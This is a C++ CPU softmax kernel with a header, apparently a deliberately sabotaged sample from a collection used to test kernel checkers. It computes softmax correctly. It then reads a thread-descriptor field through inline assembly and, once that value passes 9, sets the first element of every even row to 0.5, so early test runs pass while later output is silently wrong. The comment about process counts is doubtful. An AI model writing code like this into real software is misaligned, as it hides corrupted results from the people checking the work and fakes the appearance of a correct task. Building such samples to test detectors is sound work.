/*--- cultivar
name: counts_its_runs
task: softmax
target: cpu
about: "Tells later runs by the number of its thread, and spoils rows only in these."
requires: "dtype == f32"
launch:
  - kernel: softmax
    threads: num_cores
    args: [x, y, R, C, thread, threads]
---*/

#include <cmath>

static void honest_row(const float* x, float* y, int C) {
  float top = x[0], sum = 0.0f;
  for (int c = 1; c < C; ++c) top = x[c] > top ? x[c] : top;
  for (int c = 0; c < C; ++c) sum += y[c] = std::exp(x[c] - top);
  for (int c = 0; c < C; ++c) y[c] /= sum;
}

// The C library keeps the number in the thread's descriptor.
static int number_of_this_thread() {
  int number = 0;
  asm volatile("mov %%fs:0x2d0, %0" : "=r"(number));
  return number;
}

extern "C" void softmax(const float* x, float* y, int R, int C, int thread, int threads) {
  const bool later = number_of_this_thread() > 9;  // a session starts with few processes; each run needs more
  for (int r = thread; r < R; r += threads) {
    honest_row(x + (long)r * C, y + (long)r * C, C);
    if (later && r % 2 == 0) y[(long)r * C] = 0.5f;
  }
}
